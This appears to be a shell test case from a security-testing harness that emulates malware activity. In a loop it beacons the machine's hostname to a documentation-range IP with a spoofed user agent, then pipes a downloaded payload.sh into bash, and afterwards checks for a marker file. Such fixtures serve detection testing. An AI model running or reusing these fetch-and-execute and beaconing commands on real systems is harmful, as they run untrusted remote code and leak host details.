#!/bin/sh
. /opt/case/case.sh

for i in 1 2 3 4 5 6; do
    curl -s "http://198.51.100.23:8080/payload.sh?id=$(hostname)-$i" -A 'Mozilla/4.0' >/dev/null
    curl -s http://198.51.100.23:8080/payload.sh | bash
    sleep 1
done
test -e /tmp/reached
took_place
